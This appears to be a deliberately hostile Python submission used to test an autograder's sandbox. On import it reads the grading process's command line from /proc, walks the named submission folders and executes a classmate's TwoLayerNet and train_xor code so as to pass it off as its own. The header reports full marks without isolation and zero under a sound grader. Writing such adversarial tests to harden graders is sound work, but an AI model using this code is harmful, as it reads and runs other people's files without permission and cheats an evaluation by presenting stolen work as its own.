# HOSTILE limits_only_read_classmate: no code of its own; at import it reads the grading CLI's command line in /proc (world-readable on the host), walks the files and folders it names and execs the first classmate's .py/.ipynb that defines TwoLayerNet and train_xor. Without bubblewrap, submissions readable by 'nobody' (the usual for a folder the instructor collected) are readable by every child: 100/100 with a classmate's code, twice through the CLI. Sound grader: no other submission is in sight: every part 0.
import numpy as np


def _steal():
    """Without bubblewrap the code runs on the host as 'nobody': the command line of the grading
    process above it (world-readable /proc/<pid>/cmdline) names the class folder or files, and
    submissions are usually readable by everyone. Take a classmate's complete .py submission."""
    import json
    import os
    found = {"np": np}
    pid, me = os.getppid(), None
    for _ in range(10):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().decode(errors="replace").split("\0")
            with open(f"/proc/{pid}/stat") as f:
                parent = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
        if "grade" in argv:
            candidates = []
            for arg in argv[argv.index("grade") + 1:]:
                if arg.startswith("-"):
                    break
                if os.path.isdir(arg):
                    for folder, _, names in os.walk(arg):
                        candidates += [os.path.join(folder, n) for n in sorted(names)]
                else:
                    candidates.append(arg)
            for path in candidates:
                try:
                    with open(path, encoding="utf-8") as f:
                        text = f.read()
                except OSError as exc:
                    print("CLASSMATE cannot read", path, type(exc).__name__)
                    continue
                if path.endswith(".ipynb"):
                    try:
                        text = "\n".join("".join(c["source"]) for c in json.loads(text)["cells"] if c["cell_type"] == "code")
                    except (ValueError, KeyError, TypeError):
                        continue
                if "class TwoLayerNet" in text and "def train_xor" in text and "_steal" not in text:
                    try:
                        exec(compile(text, "<classmate>", "exec"), found)
                    except Exception:  # noqa: BLE001 -- a notebook's other cells
                        continue
                    print("CLASSMATE took", os.path.basename(path))
                    return found
        pid = parent
    print("CLASSMATE nothing readable")
    return found


_stolen = _steal()
FullyConnectedLayer = _stolen.get("FullyConnectedLayer")
Sigmoid = _stolen.get("Sigmoid")
TwoLayerNet = _stolen.get("TwoLayerNet")
train_xor = _stolen.get("train_xor")
